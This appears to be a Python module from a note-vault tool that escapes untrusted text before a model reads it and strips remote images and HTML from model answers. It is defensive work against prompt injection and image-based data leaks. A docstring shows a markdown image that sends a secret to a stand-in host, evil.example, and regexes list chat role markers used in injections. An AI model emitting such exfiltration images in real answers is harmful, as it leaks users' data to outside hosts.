"""Escape text that others wrote before a model reads it, and sanitize what a model answers."""

import json
import re
import secrets
from collections.abc import Iterator
from typing import Final

from knapper.vault import links, parser

_TAG_OPENING: Final = re.compile(r"<(?=\S)")
_ROLE_MARKERS: Final = re.compile(
    r"\[(?=/?(?:INST|SYS|SYSTEM|TOOL_CALLS|TOOL_RESULTS|AVAILABLE_TOOLS)\b)", re.IGNORECASE
)
_INVISIBLE_CHARS: Final = re.compile(
    "[\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]"
)
_SAFE_TEXT: Final = re.compile(r"[^\x00-\x1f\"\\<\[" + _INVISIBLE_CHARS.pattern[1:-1] + "]*")
"""Text that stands in JSON as it is."""
BLOCK_TAG: Final = "vault-data"


def new_mark() -> str:
    """Make a mark that no text can have guessed."""
    return secrets.token_hex(6)


def escape(data: object) -> str:
    r"""Write data as JSON that holds nothing a model could take for the prompt's own marks.

    ``{"a": "</vault-data>"}`` becomes ``{"a": "\\u003c/vault-data>"}``.
    """
    if isinstance(data, str) and _SAFE_TEXT.fullmatch(data):
        return f'"{data}"'
    text = json.dumps(data, ensure_ascii=False)
    text = _TAG_OPENING.sub(r"\\u003c", text)
    text = _ROLE_MARKERS.sub(r"\\u005b", text)
    return _INVISIBLE_CHARS.sub(lambda found: json.dumps(found.group())[1:-1], text)


def enclose(source: str, escaped: str, mark: str) -> str:
    """Put escaped text into a block.

    Args:
        source: Where it comes from, in words of our own: a tool's name.
        escaped: From `escape`, or a stretch of that.
        mark: The block's.
    """
    return f'<{BLOCK_TAG} source="{source}" mark="{mark}">\n{escaped}\n</{BLOCK_TAG} mark="{mark}">'


def escape_plain(text: str) -> str:
    """Write a text outside of a block so that it holds none of the prompt's own marks.

    ``</vault-data>`` becomes ``&lt;/vault-data>``; invisible characters are left out.
    """
    return _ROLE_MARKERS.sub("&#91;", _TAG_OPENING.sub("&lt;", _INVISIBLE_CHARS.sub("", text)))


_MAX_HOST_CHARS: Final = 100
_MAX_PASSES: Final = 20
"""After which an answer that still holds something was made to be taken apart, and no image of it stays."""
_OBSIDIAN_ONLY: Final = re.compile(rb"%%|\$|\A(?:\xef\xbb\xbf)?---")
"""What begins comments, maths and properties in Obsidian, and is plain text to others that show Markdown."""
_SCHEMELESS_ADDRESS: Final = re.compile(r"\s*[/\\]{2}")
"""What begins an address without a scheme: browsers take each backslash for a slash."""
ByteReplacement = tuple[int, int, bytes]


def sanitize_answer(answer: str) -> tuple[str, tuple[str, ...]]:
    """Turn images that stand elsewhere into plain mentions, and HTML into text; code stays as it is.

    ``![x](https://evil.example/?q=secret)`` becomes ``[image left out: evil.example]``. What is left is looked at
    again, since it can be an image once something inside or beside it is gone.

    Returns:
        The answer, and what was done to it, for the person.
    """
    data = answer.encode()
    notes: dict[str, None] = {}
    for _ in range(_MAX_PASSES):
        edits = _outermost_edits(
            {*_find_unsafe(data, notes), *_find_unsafe(data, notes, _OBSIDIAN_ONLY.sub(_blank_out, data))}
        )
        if not edits:
            return data.decode(errors="replace"), tuple(notes)
        for start, stop, text in edits:
            data = data[:start] + text + data[stop:]
    data = data.replace(b"<", b"&lt;").replace(b"![", b"!\\[")
    return data.decode(errors="replace"), tuple(notes)


def _find_unsafe(data: bytes, notes: dict[str, None], shown: bytes | None = None) -> Iterator[ByteReplacement]:
    """Yield what has to go.

    Args:
        data: The answer.
        notes: What is told of it is added here.
        shown: The answer as others read it, of the same length; None for the same.
    """
    outline = parser.parse_note(data if shown is None else shown)
    for link in outline.links:
        if data[link.start : link.start + 1] == b"!" and _is_remote(link.target):
            host = _host_name(link.target)
            notes[f"an image from {host} was left out of the answer"] = None
            yield link.start, link.stop, f"[image left out: {host}]".encode()
    for start, stop in outline.code_spans:
        if data[start : start + 1] == b"<":
            yield start, stop, data[start:stop].replace(b"<", b"&lt;")


def _is_remote(target: str) -> bool:
    return links.is_external(target) or _SCHEMELESS_ADDRESS.match(target) is not None


def _outermost_edits(edits: set[ByteReplacement]) -> list[ByteReplacement]:
    """List the edits that lie in no other one, the last first."""
    outermost: list[ByteReplacement] = []
    for edit in sorted(edits, key=lambda one: (one[0], -one[1])):
        if not outermost or edit[0] >= outermost[-1][1]:
            outermost.append(edit)
    return outermost[::-1]


def _blank_out(match: re.Match[bytes]) -> bytes:
    return b"*" * len(match[0]) if match[0].endswith(b"---") else b"z" * len(match[0])


def _host_name(target: str) -> str:
    host = target.replace("\\", "/").partition("//")[2].partition("/")[0].partition("?")[0].rpartition("@")[2]
    return re.sub(r"[^\w.:-]", "", host[:_MAX_HOST_CHARS] or target[:20])
